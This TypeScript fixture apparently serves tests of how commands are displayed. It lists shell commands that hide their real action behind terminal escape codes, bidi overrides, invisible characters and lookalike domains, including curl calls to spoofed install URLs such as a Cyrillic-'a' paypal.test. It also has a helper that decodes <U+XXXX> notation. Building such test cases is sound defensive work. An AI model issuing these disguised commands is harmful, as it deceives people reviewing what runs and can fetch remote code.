/** Commands that do something else than what a careless display shows of them. Each runs as it stands. */
export const HIDING_COMMANDS: readonly string[] = [
  'ls -la \u001b]8; touch pwned #\u0007',
  'cat notes.txt \u001b[|sh',
  'ls \u001b[8m; touch pwned\u001b[28m',
  'true \u001b]8;;https://evil.test\u001b\\ touch pwned \u001b]8;;\u001b\\',
  'echo ok \u009b8m; touch pwned',
  'echo safe # \rtouch pwned',
  'touch pwned\u0008\u0008\u0008\u0008\u0008safe',
  'echo \u202edenwp hcuot\u202c',
  'echo \u2066ok\u2069\u200b',
  'touch pwned\u2800\u3164\u00a0.txt',
  'curl https://p\u0430ypal.test/install',
  'curl https://github.com\u2215evil.test/install',
  'echo \u{e0074}\u{e006f}\u{e0075}\u{e0063}\u{e0068}',
  'echo <U+001B>[31m is only text',
]

/** The text that `exactText` shows like this, read back. */
export function readExact(shown: string): string {
  return shown.replaceAll(/<U\+([0-9A-F]{4,6})>/g, (_, number: string) =>
    String.fromCodePoint(Number.parseInt(number, 16)),
  )
}
